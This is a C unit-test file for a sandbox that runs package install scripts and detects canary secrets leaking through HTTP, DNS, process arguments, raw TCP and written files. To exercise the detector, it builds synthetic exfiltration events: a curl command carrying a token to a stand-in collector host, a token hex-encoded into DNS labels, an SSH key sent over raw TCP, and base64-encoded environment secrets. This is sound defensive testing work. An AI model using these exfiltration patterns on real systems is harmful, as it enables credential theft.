/*
 * test_exfil.c — the fake internet's events as JSON (dns, payload, net conn_id), canary hits in
 * them and in written files (exfil lines), the watch of written paths and of our own collector,
 * and the report's network/canary_hits sections, all from synthetic struct sbx_event values.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "canary.h"
#include "events.h"
#include "b64.h"
#include "exfil.h"
#include "report.h"
#include "report_network.h"

/* Canaries as a run would have them (values >= CANARY_MIN_LEN, unique). */
static const struct canary canaries[] = {
    {"env:NPM_TOKEN", "Qx7pL2mN9vB4cR8tY1wZ3kJ6hG5fD0sA9eUo"},
    {"file:~/.npmrc", "Tg4Hk9Lm2Np7Qr1St6Uv3Wx8Yz5Ab0Cd4EfGh"},
    {"env:GITHUB_TOKEN", "Zz1Yy2Xx3Ww4Vv5Uu6Tt7Ss8Rr9Qq0Pp1Oo2Nn"},
    {"file:~/.ssh/id_rsa", "Ke8Jd7Hc6Gb5Fa4Ez3Dy2Cx1Bw0Av9Zu8Yt7Xs"},
};
enum { NCANARIES = sizeof canaries / sizeof *canaries };

static cJSON *last_line(const struct event_log *l)
{
    const char *end = l->out.buf + l->out.len - 1;   /* the final '\n' */
    const char *start = end;
    while (start > l->out.buf && start[-1] != '\n') start--;
    cJSON *j = cJSON_ParseWithLength(start, (size_t)(end - start));
    assert_non_null(j);
    return j;
}

static const cJSON *get(const cJSON *o, const char *k)
{
    const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, k);
    if (!v) fail_msg("missing key %s", k);
    return v;
}

static const char *gets(const cJSON *o, const char *k)
{
    const cJSON *v = get(o, k);
    assert_true(cJSON_IsString(v));
    return v->valuestring;
}

static struct sbx_event inet_event(sbx_event_kind kind, const char *addr, unsigned port)
{
    struct sbx_event ev;
    memset(&ev, 0, sizeof ev);
    ev.kind = kind;
    ev.pid = 7;
    ev.ppid = 3;
    ev.t_ns = 1000;
    ev.addr.family = AF_INET;
    snprintf(ev.addr.addr, sizeof ev.addr.addr, "%s", addr);
    ev.addr.port = port;
    return ev;
}

/* An HTTP request as the sandbox reports it: data holds the whole request. */
static struct sbx_event http_event(const char *proto, const char *method, const char *target, const char *host,
                                   const char *headers, const char *body, const char *request)
{
    struct sbx_event ev = inet_event(SBX_EV_PAYLOAD, "127.1.0.7", strcmp(proto, "https") ? 80 : 443);
    ev.conn_id = 5;
    ev.payload.transport = "tcp";
    ev.payload.proto = proto;
    ev.payload.dns_name = host;
    ev.payload.data = (const unsigned char *)request;
    ev.payload.len = strlen(request);
    ev.payload.total = strlen(request) + 100;
    ev.payload.http_method = method;
    ev.payload.http_target = target;
    ev.payload.http_host = host;
    ev.payload.http_headers = headers;
    ev.payload.http_body = (const unsigned char *)body;
    ev.payload.http_body_len = body ? strlen(body) : 0;
    if (!strcmp(proto, "https")) {
        ev.payload.tls_sni = host;
        ev.payload.tls_alpn = "http/1.1";
    }
    return ev;
}

/* ---- event JSON ---------------------------------------------------------------------------- */

static void payload_event_has_every_field_of_the_table(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    event_log_set_phase(&l, "postinstall");
    const char *req = "POST /c/x?a=1&b=%20 HTTP/1.1\r\nHost: collector.example\r\nX-A: 1\r\nX-A: 2\r\n\r\n{\"k\":\"v\"}";
    struct sbx_event ev = http_event("https", "POST", "/c/x?a=1&b=%20", "collector.example",
                                     "host: collector.example\nx-a: 1\ncontent-type: application/json\nx-a: 2\n",
                                     "{\"k\":\"v\"}", req);
    event_log_add(&l, &ev);
    cJSON *j = last_line(&l);
    assert_string_equal(gets(j, "kind"), "payload");
    assert_int_equal(get(j, "conn_id")->valueint, 5);
    assert_string_equal(gets(j, "transport"), "tcp");
    assert_string_equal(gets(j, "proto"), "https");
    assert_string_equal(gets(get(j, "addr"), "address"), "127.1.0.7");
    assert_int_equal(get(get(j, "addr"), "port")->valueint, 443);
    assert_string_equal(gets(j, "dns_name"), "collector.example");
    assert_int_equal(get(j, "bytes")->valueint, (int)strlen(req) + 100);
    assert_int_equal(get(j, "captured")->valueint, (int)strlen(req));
    size_t n = 0;
    unsigned char *data = b64_decode(gets(j, "data_b64"), strlen(gets(j, "data_b64")), &n);
    assert_int_equal(n, strlen(req));
    assert_memory_equal(data, req, n);
    free(data);
    assert_string_equal(gets(j, "excerpt"), req);
    const cJSON *http = get(j, "http");
    assert_string_equal(gets(http, "method"), "POST");
    assert_string_equal(gets(http, "target"), "/c/x?a=1&b=%20");
    assert_string_equal(gets(http, "path"), "/c/x");
    assert_string_equal(gets(http, "query"), "a=1&b=%20");
    assert_string_equal(gets(http, "host"), "collector.example");
    const cJSON *h = get(http, "headers");
    assert_string_equal(gets(h, "x-a"), "1, 2");
    assert_string_equal(gets(h, "content-type"), "application/json");
    assert_int_equal(cJSON_GetArraySize(h), 3);
    assert_string_equal(gets(http, "body_excerpt"), "{\"k\":\"v\"}");
    assert_int_equal(get(http, "body_bytes")->valueint, 9);
    const cJSON *tls = get(j, "tls");
    assert_string_equal(gets(tls, "sni"), "collector.example");
    assert_string_equal(gets(tls, "alpn"), "http/1.1");
    assert_true(cJSON_IsTrue(get(tls, "intercepted")));
    assert_null(cJSON_GetObjectItem(tls, "error"));
    cJSON_Delete(j);
    event_log_free(&l);
}

static void payload_excerpt_is_bounded_and_escaped(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    unsigned char raw[2000];
    for (size_t i = 0; i < sizeof raw; i++) raw[i] = (unsigned char)(i % 7 == 0 ? 0 : 'a' + i % 26);
    raw[1] = 0xff;
    struct sbx_event ev = inet_event(SBX_EV_PAYLOAD, "203.0.113.9", 4444);
    ev.payload.transport = "tcp";
    ev.payload.proto = "raw";
    ev.payload.data = raw;
    ev.payload.len = sizeof raw;
    ev.payload.total = sizeof raw;
    event_log_add(&l, &ev);
    cJSON *j = last_line(&l);
    assert_null(cJSON_GetObjectItem(j, "conn_id"));
    assert_null(cJSON_GetObjectItem(j, "dns_name"));
    assert_null(cJSON_GetObjectItem(j, "http"));
    assert_null(cJSON_GetObjectItem(j, "tls"));
    const char *ex = gets(j, "excerpt");
    assert_true(!strncmp(ex, "\\x00\\xFFc", 9));
    /* 512 bytes in: each NUL (every 7th) and the 0xff became 4 characters */
    size_t nuls = 0;
    for (size_t i = 0; i < EVENTS_EXCERPT_BYTES; i++) nuls += raw[i] == 0;
    assert_int_equal(strlen(ex), EVENTS_EXCERPT_BYTES + 3 * (nuls + 1));
    size_t n = 0;
    unsigned char *data = b64_decode(gets(j, "data_b64"), strlen(gets(j, "data_b64")), &n);
    assert_int_equal(n, sizeof raw);
    assert_memory_equal(data, raw, n);
    free(data);
    cJSON_Delete(j);
    event_log_free(&l);
}

static void tls_not_intercepted_says_why(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    struct sbx_event ev = inet_event(SBX_EV_PAYLOAD, "127.1.0.9", 443);
    ev.conn_id = 9;
    ev.payload.transport = "tcp";
    ev.payload.proto = "tls";
    ev.payload.dns_name = "pinned.example";
    ev.payload.tls_sni = "pinned.example";
    ev.payload.tls_error = "certificate unknown: client does not trust our CA (pinned?)";
    event_log_add(&l, &ev);
    cJSON *j = last_line(&l);
    assert_int_equal(get(j, "captured")->valueint, 0);
    assert_string_equal(gets(j, "data_b64"), "");
    const cJSON *tls = get(j, "tls");
    assert_false(cJSON_IsTrue(get(tls, "intercepted")));
    assert_non_null(strstr(gets(tls, "error"), "does not trust our CA"));
    cJSON_Delete(j);
    event_log_free(&l);
}

static void dns_event_and_net_conn_id(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    struct sbx_event ev;
    memset(&ev, 0, sizeof ev);
    ev.kind = SBX_EV_DNS;
    ev.dns = (struct sbx_dns_event){"collector.example", 1, "127.1.0.7", "udp"};
    event_log_add(&l, &ev);
    cJSON *j = last_line(&l);
    assert_string_equal(gets(j, "kind"), "dns");
    assert_string_equal(gets(j, "name"), "collector.example");
    assert_string_equal(gets(j, "qtype"), "A");
    assert_string_equal(gets(j, "answer"), "127.1.0.7");
    assert_string_equal(gets(j, "transport"), "udp");
    cJSON_Delete(j);
    ev.dns = (struct sbx_dns_event){"x.example", 99, "", "tcp"};
    event_log_add(&l, &ev);
    j = last_line(&l);
    assert_int_equal(get(j, "qtype")->valueint, 99);
    assert_string_equal(gets(j, "answer"), "");
    cJSON_Delete(j);
    struct sbx_event net = inet_event(SBX_EV_NET, "127.1.0.7", 80);
    net.syscall = "connect";
    event_log_add(&l, &net);
    j = last_line(&l);
    assert_null(cJSON_GetObjectItem(j, "conn_id"));
    cJSON_Delete(j);
    net.conn_id = 12;
    event_log_add(&l, &net);
    j = last_line(&l);
    assert_int_equal(get(j, "conn_id")->valueint, 12);
    cJSON_Delete(j);
    event_log_free(&l);
}

static void exfil_lines_may_pass_the_bound_by_the_reserve(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 200);
    struct sbx_event ev;
    memset(&ev, 0, sizeof ev);
    ev.kind = SBX_EV_NOTE;
    ev.detail = "a note long enough to fill the hundred bytes of this tiny stream bound, and more";
    event_log_add(&l, &ev);
    event_log_add(&l, &ev);
    assert_int_equal(l.dropped, 1);
    struct exfil_record x = {.ref_seq = 1, .source = "env:NPM_TOKEN", .where = "payload", .field = "data",
                             .encoding = "raw", .phase = "postinstall"};
    event_log_add_exfil(&l, &x);
    assert_int_equal(l.nexfil, 1);
    cJSON *j = last_line(&l);
    assert_string_equal(gets(j, "kind"), "exfil");
    assert_int_equal(get(j, "seq")->valueint, 3);
    assert_int_equal(get(j, "ref_seq")->valueint, 1);
    assert_string_equal(gets(j, "source"), "env:NPM_TOKEN");
    assert_string_equal(gets(j, "where"), "payload");
    assert_string_equal(gets(j, "field"), "data");
    assert_string_equal(gets(j, "encoding"), "raw");
    assert_string_equal(gets(j, "phase"), "postinstall");
    cJSON_Delete(j);
    event_log_free(&l);
}

/* ---- canary scan ---------------------------------------------------------------------------- */

struct hit { const char *source, *where, *field, *encoding; };

/* The exfil lines of the stream, in order. */
static cJSON *exfil_lines(const struct event_log *l)
{
    cJSON *arr = cJSON_CreateArray();
    const char *s = l->out.buf, *end = s + l->out.len;
    while (s < end) {
        const char *nl = memchr(s, '\n', (size_t)(end - s));
        cJSON *j = cJSON_ParseWithLength(s, (size_t)(nl - s));
        if (j && !strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(j, "kind")), "exfil")) cJSON_AddItemToArray(arr, j);
        else cJSON_Delete(j);
        s = nl + 1;
    }
    return arr;
}

static void expect_hit(const cJSON *lines, int i, const char *source, const char *where, const char *field,
                       const char *encoding, int ref_seq)
{
    const cJSON *h = cJSON_GetArrayItem(lines, i);
    if (!h) fail_msg("no exfil line %d", i);
    assert_string_equal(gets(h, "source"), source);
    assert_string_equal(gets(h, "where"), where);
    assert_string_equal(gets(h, "field"), field);
    assert_string_equal(gets(h, "encoding"), encoding);
    assert_int_equal(get(h, "ref_seq")->valueint, ref_seq);
}

static void https_query_token_is_found_once_per_event(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    event_log_set_phase(&l, "postinstall");
    char target[256], req[512];
    snprintf(target, sizeof target, "/t?token=npm_%s", canaries[1].value);
    snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: collector.example\r\n\r\n", target);
    struct sbx_event ev = http_event("https", "GET", target, "collector.example", "host: collector.example\n", NULL, req);
    event_log_add(&l, &ev);
    struct sb_error err = {0};
    assert_int_equal(exfil_scan(&l, canaries, NCANARIES, NULL, &err), 1);
    cJSON *lines = exfil_lines(&l);
    assert_int_equal(cJSON_GetArraySize(lines), 1);
    expect_hit(lines, 0, "file:~/.npmrc", "payload", "http.query", "raw", 1);
    assert_string_equal(gets(cJSON_GetArrayItem(lines, 0), "phase"), "postinstall");
    assert_int_equal(get(cJSON_GetArrayItem(lines, 0), "pid")->valueint, 7);
    cJSON_Delete(lines);
    event_log_free(&l);
}

static void encoded_secrets_in_body_dns_argv_and_raw_data(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    /* 1: a JSON body with the env, base64-encoded */
    char inner[256], body[512], req[1024];
    snprintf(inner, sizeof inner, "{\"NPM_TOKEN\":\"npm_%s\"}", canaries[0].value);
    struct jsonw b = {0};
    static const char B64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < strlen(inner); i += 3) {
        const unsigned char *p = (const unsigned char *)inner + i;
        size_t left = strlen(inner) - i;
        unsigned v = (unsigned)p[0] << 16 | (left > 1 ? (unsigned)p[1] << 8 : 0u) | (left > 2 ? p[2] : 0u);
        char q[4] = {B64[v >> 18 & 63], B64[v >> 12 & 63], left > 1 ? B64[v >> 6 & 63] : '=', left > 2 ? B64[v & 63] : '='};
        jw_raw(&b, q, 4);
    }
    jw_raw(&b, "", 1);
    snprintf(body, sizeof body, "{\"d\":\"%s\"}", b.buf);
    jw_free(&b);
    snprintf(req, sizeof req, "POST /collect HTTP/1.1\r\nHost: collector.example\r\n\r\n%s", body);
    struct sbx_event ev = http_event("http", "POST", "/collect", "collector.example", "host: collector.example\n", body, req);
    event_log_add(&l, &ev);
    /* 2: the GitHub token as hex split over DNS labels */
    char hex[128], name[256];
    for (size_t i = 0; i < strlen(canaries[2].value); i++) sprintf(hex + 2 * i, "%02x", (unsigned char)canaries[2].value[i]);
    snprintf(name, sizeof name, "%.30s.%s.x.exfil.example", hex, hex + 30);
    struct sbx_event dns;
    memset(&dns, 0, sizeof dns);
    dns.kind = SBX_EV_DNS;
    dns.dns = (struct sbx_dns_event){name, 1, "127.1.0.8", "udp"};
    event_log_add(&l, &dns);
    /* 3: curl with the token on its command line */
    char url[256];
    snprintf(url, sizeof url, "https://collector.example/t?k=%s", canaries[0].value);
    const char *argv[] = {"curl", "-s", url, NULL};
    struct sbx_event ex;
    memset(&ex, 0, sizeof ex);
    ex.kind = SBX_EV_EXEC;
    ex.path = "/usr/bin/curl";
    ex.argv = argv;
    ex.cwd = "/";
    event_log_add(&l, &ex);
    /* 4: the ssh key over raw TCP */
    char key[256];
    snprintf(key, sizeof key, "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n", canaries[3].value);
    struct sbx_event raw = inet_event(SBX_EV_PAYLOAD, "203.0.113.9", 4444);
    raw.payload.transport = "tcp";
    raw.payload.proto = "raw";
    raw.payload.data = (const unsigned char *)key;
    raw.payload.len = raw.payload.total = strlen(key);
    event_log_add(&l, &raw);
    struct sb_error err = {0};
    assert_int_equal(exfil_scan(&l, canaries, NCANARIES, NULL, &err), 4);
    cJSON *lines = exfil_lines(&l);
    expect_hit(lines, 0, "env:NPM_TOKEN", "payload", "http.body", "base64", 1);
    expect_hit(lines, 1, "env:GITHUB_TOKEN", "dns", "name", "dns>hex", 2);
    expect_hit(lines, 2, "env:NPM_TOKEN", "exec", "argv", "raw", 3);
    expect_hit(lines, 3, "file:~/.ssh/id_rsa", "payload", "data", "raw", 4);
    cJSON_Delete(lines);
    event_log_free(&l);
}

static void nothing_found_nothing_added(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    struct sbx_event ev = http_event("http", "GET", "/index.html", "example.com", "host: example.com\n", NULL,
                                     "GET /index.html HTTP/1.1\r\n\r\n");
    event_log_add(&l, &ev);
    size_t len = l.out.len;
    struct sb_error err = {0};
    assert_int_equal(exfil_scan(&l, canaries, NCANARIES, NULL, &err), 0);
    assert_int_equal(exfil_scan(&l, canaries, 0, NULL, &err), 0);
    assert_int_equal(l.out.len, len);
    event_log_free(&l);
}

/* ---- written files and the collector's events ----------------------------------------------- */

static struct sbx_event open_event(const char *path, long flags)
{
    struct sbx_event ev;
    memset(&ev, 0, sizeof ev);
    ev.kind = SBX_EV_OPEN;
    ev.syscall = "openat";
    ev.path = path;
    ev.flags = flags;
    ev.pid = 4;
    return ev;
}

static void watch_remembers_writes_outside_the_package(void **state)
{
    (void)state;
    static struct exfil_watch w;
    exfil_watch_init(&w, "/home/dev", "/home/dev/project", "/home/dev/project/node_modules/x");
    struct sbx_event e1 = open_event("/tmp/loot", O_WRONLY | O_CREAT | O_TRUNC);
    struct sbx_event e2 = open_event("/home/dev/.npmrc", O_RDONLY);
    struct sbx_event e3 = open_event("/home/dev/project/node_modules/x/build.log", O_WRONLY | O_CREAT);
    struct sbx_event e4 = open_event("/home/dev/.bashrc", O_RDWR | O_APPEND);
    struct sbx_event e5 = open_event("/etc/passwd", O_WRONLY);
    struct sbx_event e6 = open_event("/tmp/loot", O_WRONLY | O_APPEND);
    struct sbx_event e7;
    memset(&e7, 0, sizeof e7);
    e7.kind = SBX_EV_FS;
    e7.syscall = "renameat2";
    e7.path = "/home/dev/project/node_modules/x/stage";
    e7.path2 = "/home/dev/project/.cache-out";
    const struct sbx_event *evs[] = {&e1, &e2, &e3, &e4, &e5, &e6, &e7};
    for (size_t i = 0; i < 7; i++) {
        assert_false(exfil_watch_is_ours(&w, evs[i]));
        exfil_watch_note(&w, evs[i], i + 1, "postinstall");
    }
    assert_int_equal(w.nfiles, 3);
    assert_string_equal(w.files[0].path, "/tmp/loot");
    assert_int_equal(w.files[0].ref_seq, 6);    /* the last write */
    assert_string_equal(w.files[1].path, "/home/dev/.bashrc");
    assert_string_equal(w.files[2].path, "/home/dev/project/.cache-out");
    exfil_watch_free(&w);
}

static void collector_events_are_recognised_by_nonce(void **state)
{
    (void)state;
    static struct exfil_watch w;
    exfil_watch_init(&w, "/home/dev", "/home/dev/project", "/home/dev/project/node_modules/x");
    snprintf(w.nonce, sizeof w.nonce, "scriptbox-collect-0011");
    const char *ours[] = {"/usr/bin/node", "-e", "js", "scriptbox-collect-0011", "65536", NULL};
    const char *theirs[] = {"/usr/bin/node", "-e", "js", "scriptbox-collect-9999", NULL};
    struct sbx_event ex;
    memset(&ex, 0, sizeof ex);
    ex.kind = SBX_EV_EXEC;
    ex.pid = 40;
    ex.argv = theirs;
    w.collecting = true;
    assert_false(exfil_watch_is_ours(&w, &ex));     /* a leftover guessing wrong */
    ex.argv = ours;
    ex.pid = 41;
    assert_true(exfil_watch_is_ours(&w, &ex));
    struct sbx_event op = open_event("/tmp/loot", O_RDONLY);
    op.pid = 41;
    assert_true(exfil_watch_is_ours(&w, &op));
    op.pid = 40;
    assert_false(exfil_watch_is_ours(&w, &op));     /* the leftover's own open is kept */
    w.collecting = false;
    struct sbx_event ex_end;
    memset(&ex_end, 0, sizeof ex_end);
    ex_end.kind = SBX_EV_PROC_EXIT;
    ex_end.pid = 41;
    assert_true(exfil_watch_is_ours(&w, &ex_end));  /* its exit, reported after sbx_exec returned */
    assert_false(exfil_watch_is_ours(&w, &ex_end)); /* a later process with the same pid */
    exfil_watch_free(&w);
}

static void written_file_contents_are_scanned_unless_unchanged(void **state)
{
    (void)state;
    static struct exfil_watch w;
    exfil_watch_init(&w, "/home/dev", "/home/dev/project", "/home/dev/project/node_modules/x");
    struct sbx_event e1 = open_event("/tmp/loot", O_WRONLY | O_CREAT);
    struct sbx_event e2 = open_event("/home/dev/.npmrc", O_RDWR);
    exfil_watch_note(&w, &e1, 3, "preinstall");
    exfil_watch_note(&w, &e2, 4, "preinstall");
    char text[128];
    snprintf(text, sizeof text, "//registry/:_authToken=npm_%s\n", canaries[1].value);
    for (size_t i = 0; i < 2; i++) {
        w.files[i].data = (unsigned char *)strdup(text);
        w.files[i].len = strlen(text);
    }
    w.files[1].unchanged = true;    /* our honeypot .npmrc, opened O_RDWR but left as it was */
    struct event_log l;
    event_log_init(&l, 0);
    struct sb_error err = {0};
    assert_int_equal(exfil_scan(&l, canaries, NCANARIES, &w, &err), 1);
    cJSON *lines = exfil_lines(&l);
    expect_hit(lines, 0, "file:~/.npmrc", "file", "/tmp/loot", "raw", 3);
    assert_string_equal(gets(cJSON_GetArrayItem(lines, 0), "phase"), "preinstall");
    cJSON_Delete(lines);
    event_log_free(&l);
    exfil_watch_free(&w);
}

static void base64_decoder(void **state)
{
    (void)state;
    size_t n = 0;
    unsigned char *d = b64_decode("aGVsbG8gd29ybGQ=", strlen("aGVsbG8gd29ybGQ="), &n);
    assert_int_equal(n, 11);
    assert_memory_equal(d, "hello world", 11);
    free(d);
    d = b64_decode("aGVs\nbG8", strlen("aGVs\nbG8"), &n);
    assert_int_equal(n, 5);
    free(d);
    d = b64_decode("", strlen(""), &n);
    assert_int_equal(n, 0);
    free(d);
    assert_null(b64_decode("a*b", strlen("a*b"), &n));
}

/* ---- report sections ------------------------------------------------------------------------ */

static void report_groups_flows_and_lists_hits(void **state)
{
    (void)state;
    struct event_log l;
    event_log_init(&l, 0);
    event_log_set_phase(&l, "postinstall");
    struct sbx_event dns;
    memset(&dns, 0, sizeof dns);
    dns.kind = SBX_EV_DNS;
    dns.dns = (struct sbx_dns_event){"collector.example", 1, "127.1.0.7", "udp"};
    event_log_add(&l, &dns);
    struct sbx_event conn = inet_event(SBX_EV_NET, "127.1.0.7", 443);
    conn.syscall = "connect";
    conn.conn_id = 5;
    event_log_add(&l, &conn);
    char target[128], req[256];
    snprintf(target, sizeof target, "/t?token=%s", canaries[1].value);
    snprintf(req, sizeof req, "GET %s HTTP/1.1\r\n\r\n", target);
    struct sbx_event p1 = http_event("https", "GET", target, "collector.example", "host: collector.example\n", NULL, req);
    event_log_add(&l, &p1);
    p1.payload.total = 999999;   /* the same flow's second report: its capture was full */
    event_log_add(&l, &p1);
    struct sbx_event udp = inet_event(SBX_EV_PAYLOAD, "198.51.100.7", 9999);
    udp.conn_id = 6;
    udp.payload.transport = "udp";
    udp.payload.proto = "raw";
    udp.payload.data = (const unsigned char *)"hello";
    udp.payload.len = udp.payload.total = 5;
    event_log_add(&l, &udp);
    struct sb_error err = {0};
    assert_int_equal(exfil_scan(&l, canaries, NCANARIES, NULL, &err), 2);   /* once per payload event */
    event_log_finish(&l);
    cJSON *r = cJSON_CreateObject();
    assert_int_equal(report_network_add(r, l.out.buf, l.out.len), 0);
    const cJSON *net = get(r, "network");
    const cJSON *q = cJSON_GetArrayItem(get(net, "dns"), 0);
    assert_string_equal(gets(q, "name"), "collector.example");
    assert_string_equal(gets(q, "type"), "A");
    assert_string_equal(gets(q, "answer"), "127.1.0.7");
    const cJSON *conns = get(net, "connections");
    assert_int_equal(cJSON_GetArraySize(conns), 2);
    const cJSON *c = cJSON_GetArrayItem(conns, 0);
    assert_int_equal(get(c, "conn_id")->valueint, 5);
    assert_string_equal(gets(get(c, "destination"), "address"), "127.1.0.7");
    assert_string_equal(gets(c, "dns_name"), "collector.example");
    assert_string_equal(gets(c, "proto"), "https");
    assert_string_equal(gets(c, "method"), "GET");
    assert_string_equal(gets(c, "path"), "/t");
    assert_true(!strncmp(gets(c, "query"), "token=", 6));
    assert_string_equal(gets(c, "sni"), "collector.example");
    assert_int_equal(get(c, "bytes")->valueint, 999999);
    assert_int_equal(cJSON_GetArraySize(get(c, "event_seqs")), 3);
    assert_true(strlen(gets(c, "excerpt")) <= REPORT_NETWORK_EXCERPT);
    c = cJSON_GetArrayItem(conns, 1);
    assert_string_equal(gets(c, "transport"), "udp");
    assert_string_equal(gets(get(c, "destination"), "address"), "198.51.100.7");
    assert_int_equal(get(get(c, "destination"), "port")->valueint, 9999);
    assert_string_equal(gets(c, "excerpt"), "hello");
    const cJSON *hits = get(r, "canary_hits");
    assert_int_equal(cJSON_GetArraySize(hits), 2);
    const cJSON *h = cJSON_GetArrayItem(hits, 0);
    assert_string_equal(gets(h, "source"), "file:~/.npmrc");
    assert_string_equal(gets(h, "where"), "payload");
    assert_string_equal(gets(h, "field"), "http.query");
    assert_string_equal(gets(h, "encoding"), "raw");
    assert_int_equal(get(h, "ref_seq")->valueint, 3);
    struct jsonw out = {0};
    report_network_text_secrets(&out, r, "", "", "");
    report_network_text(&out, r);
    jw_raw(&out, "", 1);
    assert_non_null(strstr(out.buf, "SECRETS SENT OUT: 2"));
    assert_non_null(strstr(out.buf, "file:~/.npmrc via payload http.query"));
    assert_non_null(strstr(out.buf, "network  1 DNS query, 2 connections"));
    assert_non_null(strstr(out.buf, "collector.example"));
    assert_non_null(strstr(out.buf, "https collector.example:443  GET /t?token="));
    jw_free(&out);
    cJSON_Delete(r);
    event_log_free(&l);
}

static void report_without_network_has_empty_sections(void **state)
{
    (void)state;
    cJSON *r = cJSON_CreateObject();
    assert_int_equal(report_network_add(r, "", 0), 0);
    assert_int_equal(cJSON_GetArraySize(get(get(r, "network"), "dns")), 0);
    assert_int_equal(cJSON_GetArraySize(get(get(r, "network"), "connections")), 0);
    assert_int_equal(cJSON_GetArraySize(get(r, "canary_hits")), 0);
    struct jsonw out = {0};
    report_network_text_secrets(&out, r, "", "", "");
    report_network_text(&out, r);
    assert_int_equal(out.len, 0);
    jw_free(&out);
    cJSON_Delete(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(payload_event_has_every_field_of_the_table),
        cmocka_unit_test(payload_excerpt_is_bounded_and_escaped),
        cmocka_unit_test(tls_not_intercepted_says_why),
        cmocka_unit_test(dns_event_and_net_conn_id),
        cmocka_unit_test(exfil_lines_may_pass_the_bound_by_the_reserve),
        cmocka_unit_test(https_query_token_is_found_once_per_event),
        cmocka_unit_test(encoded_secrets_in_body_dns_argv_and_raw_data),
        cmocka_unit_test(nothing_found_nothing_added),
        cmocka_unit_test(watch_remembers_writes_outside_the_package),
        cmocka_unit_test(collector_events_are_recognised_by_nonce),
        cmocka_unit_test(written_file_contents_are_scanned_unless_unchanged),
        cmocka_unit_test(base64_decoder),
        cmocka_unit_test(report_groups_flows_and_lists_hits),
        cmocka_unit_test(report_without_network_has_empty_sections),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
